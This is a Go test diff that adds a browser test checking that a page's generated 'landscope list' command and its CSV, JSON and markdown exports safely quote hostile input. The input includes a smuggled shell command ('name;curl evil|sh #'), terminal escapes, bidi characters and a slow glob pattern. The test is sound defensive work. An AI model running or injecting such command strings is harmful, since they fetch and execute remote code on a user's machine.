@@ -9,6 +9,7 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/chromedp/chromedp"
 	"github.com/chromedp/chromedp/kb"
@@ -179,6 +180,39 @@ func TestPageCopies(t *testing.T) {
 	eval[bool](b, `navigator.clipboard.writeText = async text => { window.taken = text; }, document.querySelector("[data-copy=csv]").click(), true`)
 	b.await("window.taken && $('told').textContent")
 	want(b, "taken.startsWith('name,maturity,') && $('told').textContent.startsWith('Copied: CSV')", true)
+}
+
+// TestPageHostileAddress: what an address chooses, which anyone may have written,
+// neither puts a command on a prompt nor takes long.
+func TestPageHostileAddress(t *testing.T) {
+	file := pageFile(t)
+	b := open(t, file+"#sort=name%3Bcurl%20evil%7Csh%20%23", 1200, 900)
+	want(b, "copies.command()", "landscope list\n")
+	eval[bool](b, `state.sort = "name;curl evil|sh #", true`) // and if it got there all the same
+	want(b, "copies.command()", "landscope list --sort='name;curl evil|sh #'\n")
+	eval[bool](b, `state.sort = "", state.filters = {name: ["\x1b[201~\nid\u202e'\u009b; id #"]}, true`)
+	want(b, "copies.command()", `landscope list --name '[201~id'\''; id #'`+"\n")
+	b = open(t, file+"#sort=-accepted_at", 1200, 900)
+	want(b, "copies.command()", "landscope list --sort=-accepted_at\n")
+	eval[bool](b, `data.items[0] = {...data.items[0], name: "\u001b[31m＝\u202e\u{e0041}\u007f", homepage_url: "https://x.org/\u202e"}, true`)
+	for format, expected := range map[string]string{"csv": `␛[31m＝\u202e\U000e0041␡`, "json": `"\u001b[31m＝\u202e\udb40\udc41\u007f"`, "markdown": `| ␛\[31m＝\\u202e\\U000e0041␡ |`} {
+		if got := eval[string](b, "copies."+format+"([0])"); !strings.Contains(got, expected) {
+			t.Errorf("%s: no %s in %s", format, expected, got)
+		}
+	}
+	want(b, `guard("＝1") + guard("=1")`, "'＝1'=1")
+	began := time.Now()
+	b = open(t, file+"#name=*%3F*%3F*%3F*%3F*%3F*%3F*%3F*%3F*%3F*%3F*%3F*%3F%40", 1200, 900)
+	want(b, "current.length", 0.0)
+	if took := time.Since(began); took > 5*time.Second {
+		t.Errorf("a pattern takes %v", took)
+	}
+	for _, c := range []struct{ pattern, text string }{{"*", ""}, {"a*b?c", "axxbyc"}, {"?", "語"}, {"**a**", "bab"}, {"a*a*a", "aaa"}, {"*ab", "aab"}} {
+		want(b, fmt.Sprintf("glob(%q)(%q)", c.pattern, c.text), true)
+	}
+	for _, c := range []struct{ pattern, text string }{{"", "a"}, {"?", ""}, {"a*b?c", "axxbc"}, {"a*a*a", "aa"}, {"a.c", "abc"}, {"a", "ab"}, {"*ab", "aba"}} {
+		want(b, fmt.Sprintf("glob(%q)(%q)", c.pattern, c.text), false)
+	}
 }
 
 // TestPageLooks: the page in the dark, on paper and on a telephone; an item's
